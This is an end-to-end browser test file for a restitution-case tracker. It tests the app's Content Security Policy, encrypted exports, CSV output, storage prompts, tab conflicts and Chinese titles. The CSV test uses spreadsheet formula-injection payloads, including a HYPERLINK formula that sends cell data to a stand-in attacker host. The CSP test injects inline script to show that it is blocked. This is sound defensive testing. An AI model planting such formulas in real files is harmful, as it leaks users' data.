// Issue 13 in a real browser: the strict Content Security Policy, protected exports a client
// can receive by e-mail, spreadsheet tables with no live formula, whether the browser keeps the
// cases, two tabs told when one replaced the other's change, copies and file names in Chinese.
import { readFileSync, writeFileSync, mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Browser, Page } from 'playwright-core'
import { policyFor } from '../../build/csp'
import { readCsv, isLive } from '../support/csv'
import { baseUrl, freshPage, launch, pageErrors, screenshot, takeViolations } from './browser'
import { EXAMPLES, example, expectPanelMatches, exportThroughDialog, fill, importFile } from './ui'

const HARBOR = `${EXAMPLES}/harbor-tools.case.json`
const HARBOR_ID = 'harbor-tools-2024'
const PASSPHRASE = 'harbour lights over the pearl river'

let browser: Browser
let scratch: string
beforeAll(async () => {
  browser = await launch()
  scratch = mkdtempSync(join(tmpdir(), 'safekeeping-e2e-'))
})
afterAll(async () => {
  await browser?.close()
})

const rows = (page: Page) => page.getByTestId('case-row')
const saved = (page: Page) => expect.poll(() => page.getByTestId('save-status').getAttribute('data-state')).toBe('saved')

async function importHarbor(page: Page): Promise<void> {
  await page.goto(baseUrl())
  await importFile(page, HARBOR)
  await page.waitForURL(/\/cases\//)
  await page.getByTestId('summary-panel').waitFor()
}

function fileOf(name: string, content: string): string {
  const path = join(scratch, name)
  writeFileSync(path, content)
  return path
}

describe('the Content Security Policy', () => {
  it('is the strict production policy, without the dev server’s sources, and every violation is caught', async () => {
    const built = readFileSync(resolve(import.meta.dirname, '../../dist/index.html'), 'utf8')
    expect(built).not.toMatch(/ws:|unsafe-inline|unsafe-eval/)
    const { context, page } = await freshPage(browser)
    await page.goto(baseUrl())
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
    expect(policy).toBe(policyFor('production'))
    for (const directive of ["default-src 'self'", "script-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"])
      expect(policy).toContain(directive)
    // The app itself loads with none.
    await rows(page).or(page.getByText('No cases yet')).first().waitFor()
    expect(takeViolations()).toEqual([])

    // The guard is real: an inline script and an inline event handler are refused and reported.
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.inlineRan = true'
      document.body.append(script)
      const button = document.createElement('button')
      button.setAttribute('onclick', 'window.handlerRan = true')
      document.body.append(button)
      button.click()
      button.remove()
    })
    const ran = await page.evaluate(() => {
      const flags = window as unknown as { inlineRan?: boolean; handlerRan?: boolean }
      return [flags.inlineRan, flags.handlerRan]
    })
    expect(ran).toEqual([undefined, undefined])
    const seen: string[] = []
    await expect
      .poll(() => {
        seen.push(...takeViolations())
        return seen.length
      })
      .toBeGreaterThanOrEqual(2)
    expect(seen.join('\n')).toMatch(/script-src/)
    await context.close()
  })
})

describe('exports a client can receive by e-mail', () => {
  it('protects a case with a passphrase; the file opens only with it, and a changed file is refused', async () => {
    const first = await freshPage(browser)
    await importHarbor(first.page)
    await saved(first.page)
    // Too short, then not the same twice: refused before anything is written.
    await first.page.getByTestId('export-case').click()
    const dialog = first.page.getByTestId('export-dialog')
    await dialog.getByTestId('export-protect').check()
    await dialog.getByTestId('export-passphrase').fill('short')
    await dialog.getByTestId('export-repeat').fill('short')
    await dialog.getByTestId('export-download').click()
    expect(await dialog.getByTestId('export-problem').textContent()).toContain('at least 12 characters')
    await dialog.getByTestId('export-passphrase').fill(PASSPHRASE)
    await dialog.getByTestId('export-repeat').fill(`${PASSPHRASE}!`)
    expect(await dialog.getByTestId('export-problem').textContent()).toContain('not the same')
    await screenshot(first.page, 'export-protected-1280')
    await dialog.getByText('Close').click()

    const download = await exportThroughDialog(first.page, () => first.page.getByTestId('export-case').click(), PASSPHRASE)
    expect(download.suggestedFilename()).toBe('Harbor-Tools-Ltd-v-Shenzhen-Huaxin-Trading-Co.protected.case.json')
    const sealed = readFileSync((await download.path())!, 'utf8')
    const envelope = JSON.parse(sealed) as Record<string, unknown> & { kdf: { iterations: number }; ciphertext: string }
    expect(envelope).toMatchObject({ format: 'restitution-encrypted', version: 1, contains: 'restitution-case' })
    expect(envelope.kdf.iterations).toBeGreaterThanOrEqual(600_000)
    expect(sealed).not.toMatch(/Harbor|Zhang|27000/)
    await first.context.close()

    // The client's browser: a wrong passphrase stores nothing; the right one opens the case.
    const { context, page } = await freshPage(browser)
    await page.goto(baseUrl())
    await importFile(page, fileOf('client.protected.case.json', sealed))
    const unlock = page.getByTestId('unlock')
    await unlock.getByTestId('unlock-passphrase').fill('harbour lights over the yangtze')
    await unlock.getByTestId('unlock-open').click()
    await expect.poll(() => unlock.getByTestId('unlock-error').textContent()).toContain('passphrase is wrong')
    await screenshot(page, 'unlock-wrong-1280')
    expect(await rows(page).count()).toBe(0)
    await unlock.getByTestId('unlock-passphrase').fill(PASSPHRASE)
    await unlock.getByTestId('unlock-open').click()
    await page.waitForURL(/\/cases\//)
    const harbor = example('harbor-tools')
    await expectPanelMatches(page, harbor.expected, 'USD')

    // One character of the ciphertext changed: refused with the same message, nothing stored.
    const tampered = { ...envelope, ciphertext: `${envelope.ciphertext.slice(0, 100)}${envelope.ciphertext[100] === 'A' ? 'B' : 'A'}${envelope.ciphertext.slice(101)}` }
    const other = await freshPage(browser)
    await other.page.goto(baseUrl())
    await importFile(other.page, fileOf('tampered.protected.case.json', JSON.stringify(tampered)))
    await other.page.getByTestId('unlock-passphrase').fill(PASSPHRASE)
    await other.page.getByTestId('unlock-open').click()
    await expect.poll(() => other.page.getByTestId('unlock-error').textContent()).toContain('changed after it was encrypted')
    await other.page.goto(baseUrl())
    await other.page.getByText('No cases yet').waitFor()
    expect([...pageErrors(page), ...pageErrors(other.page)]).toEqual([])
    await other.context.close()
    await context.close()
  })

  it('protects a backup, and restores it only after its passphrase', async () => {
    const first = await freshPage(browser)
    await importHarbor(first.page)
    await first.page.goto(baseUrl())
    const download = await exportThroughDialog(first.page, () => first.page.getByTestId('backup').click(), PASSPHRASE)
    expect(download.suggestedFilename()).toMatch(/^restitution-backup-\d{4}-\d{2}-\d{2}\.protected\.json$/)
    const path = join(scratch, 'backup.protected.json')
    await download.saveAs(path)
    await first.context.close()

    const { context, page } = await freshPage(browser)
    await page.goto(baseUrl())
    // Offered as a case file, it is sent to Restore.
    await importFile(page, path)
    await expect.poll(() => page.getByTestId('import-errors').textContent()).toContain('encrypted backup, not a case file')
    await page.getByTestId('restore-input').setInputFiles(path)
    // A wrong passphrase keeps the prompt, with the reason, and plans nothing.
    await page.getByTestId('unlock-passphrase').fill('harbour lights over the yangtze')
    await page.getByTestId('unlock-open').click()
    await expect.poll(() => page.getByTestId('unlock-error').textContent()).toContain('passphrase is wrong')
    expect(await page.getByTestId('restore-plan').count()).toBe(0)
    await page.getByTestId('unlock-passphrase').fill(PASSPHRASE)
    await page.getByTestId('unlock-open').click()
    await page.getByTestId('restore-plan').waitFor()
    expect(await page.getByTestId('restore-add').textContent()).toContain('add 1 case')
    await page.getByTestId('apply-restore').click()
    await expect.poll(() => rows(page).count()).toBe(1)
    await context.close()
  })
})

describe('spreadsheet tables', () => {
  it('downloads each list as CSV with every formula typed into the case left dead', async () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1,1)', '+1+1', '-2+3', ' =1+1']
    const file = JSON.parse(readFileSync(HARBOR, 'utf8')) as { losses: { description: string; evidence?: string }[] }
    file.losses.forEach((loss, index) => {
      loss.description = payloads[index % payloads.length]!
      loss.evidence = payloads[(index + 1) % payloads.length]!
    })
    const { context, page } = await freshPage(browser)
    await page.goto(baseUrl())
    await importFile(page, fileOf('payloads.case.json', JSON.stringify(file)))
    await page.waitForURL(/\/cases\//)
    await page.getByTestId('export-case').click()
    let tried = 0
    for (const table of ['losses', 'offers', 'payments', 'costs']) {
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId(`csv-${table}`).click()])
      expect(download.suggestedFilename()).toMatch(new RegExp(`^Harbor-Tools-Ltd-v-Shenzhen-Huaxin-Trading-Co-${table}\\.csv$`))
      const cells = readCsv(readFileSync((await download.path())!, 'utf8'))
      expect(cells.length).toBeGreaterThan(1)
      tried += cells.flat().length
      expect(cells.flat().filter(isLive)).toEqual([])
    }
    expect(tried).toBeGreaterThan(100)
    await context.close()
  })
})

describe('whether the browser keeps the cases', () => {
  it('is asked at the first create and shown on the case list in plain words, with what to do', async () => {
    const { context, page } = await freshPage(browser)
    await page.addInitScript(() => {
      const calls: string[] = []
      ;(window as unknown as { persistCalls: string[] }).persistCalls = calls
      let granted = false
      Object.defineProperty(navigator, 'storage', {
        value: {
          persisted: async () => granted,
          persist: async () => {
            calls.push('persist')
            granted = true
            return true
          },
          estimate: async () => ({ usage: 0, quota: 1 }),
        },
      })
    })
    await page.goto(baseUrl())
    await expect.poll(() => page.getByTestId('storage-notice').getAttribute('data-state')).toBe('denied')
    expect(await page.getByTestId('storage-notice').textContent()).toContain('Back up all cases regularly')
    await page.getByTestId('new-case').click()
    await page.locator('#new-case-title').fill('Acme v. Widget Co.')
    await page.locator('form.new-case button[type="submit"]').click()
    await page.waitForURL(/\/cases\//)
    expect(await page.evaluate(() => (window as unknown as { persistCalls: string[] }).persistCalls)).toEqual(['persist'])
    expect(await page.getByTestId('save-status').textContent()).not.toMatch(/storage/i)
    await page.getByRole('link', { name: /Cases/ }).first().click()
    await expect.poll(() => page.getByTestId('storage-notice').getAttribute('data-state')).toBe('granted')
    expect(await page.getByTestId('storage-notice').textContent()).toContain('back up all cases now and then')
    await context.close()
  })
})

describe('two tabs, one keeping its version', () => {
  it('tells the other tab its saved change was replaced, and lets it put it back', async () => {
    const { context, page: a } = await freshPage(browser)
    await importHarbor(a)
    await saved(a)
    const b = await context.newPage()
    await b.goto(`${baseUrl()}/cases/${HARBOR_ID}`)
    await b.getByTestId('summary-panel').waitFor()
    // B's edit cannot be stored for a moment, while A saves its own.
    await b.evaluate(() => {
      const put = IDBObjectStore.prototype.put
      ;(window as unknown as { restorePut: () => void }).restorePut = () => (IDBObjectStore.prototype.put = put)
      IDBObjectStore.prototype.put = () => {
        throw new DOMException('The quota has been exceeded.', 'QuotaExceededError')
      }
    })
    await fill(b.locator('#settings'), { 'Quick-sale factor': '0.7' })
    await expect.poll(() => b.getByTestId('save-status').getAttribute('data-state')).toBe('failed')
    await fill(a.locator('#case'), { 'Case title': 'Harbor Tools (tab A)' })
    await saved(a)
    await b.evaluate(() => (window as unknown as { restorePut: () => void }).restorePut())
    await b.getByTestId('save-status').getByRole('button').click()
    await b.getByTestId('save-conflict').waitFor()
    await b.getByRole('button', { name: 'Keep my version' }).click()
    await saved(b)
    await b.getByTestId('kept-mine').waitFor()

    // A is told, not silently reloaded.
    const notice = a.getByTestId('replaced-mine')
    await notice.waitFor()
    expect(await notice.textContent()).toContain('another tab or window kept its own version')
    await expect.poll(() => a.getByTestId('case-title').textContent()).not.toBe('Harbor Tools (tab A)')
    await screenshot(a, 'replaced-mine-1280')
    await notice.getByTestId('put-mine-back').click()
    await saved(a)
    await expect.poll(() => a.getByTestId('case-title').textContent()).toBe('Harbor Tools (tab A)')
    // And B is told in turn.
    await b.getByTestId('replaced-mine').waitFor()
    expect([...pageErrors(a), ...pageErrors(b)]).toEqual([])
    await context.close()
  })
})

describe('in Chinese', () => {
  it('titles a copy （副本） and keeps a Chinese title in the exported file name', async () => {
    const { context, page } = await freshPage(browser, { locale: 'zh-CN' })
    await page.addInitScript(() => localStorage.setItem('restitution-tracker.locale', 'zh-CN'))
    await page.goto(baseUrl())
    await page.getByTestId('new-case').click()
    await page.locator('#new-case-title').fill('深圳华信贸易有限公司退赔案')
    await page.locator('form.new-case button[type="submit"]').click()
    await page.waitForURL(/\/cases\//)
    const download = await exportThroughDialog(page, () => page.getByTestId('export-case').click())
    expect(download.suggestedFilename()).toBe('深圳华信贸易有限公司退赔案.case.json')
    await page.goto(baseUrl())
    await rows(page).first().waitFor()
    await page.getByRole('button', { name: '复制' }).click()
    await expect.poll(() => rows(page).count()).toBe(2)
    expect(await rows(page).locator('a.case-link').allTextContents()).toContain('深圳华信贸易有限公司退赔案（副本）')
    await context.close()
  })
})
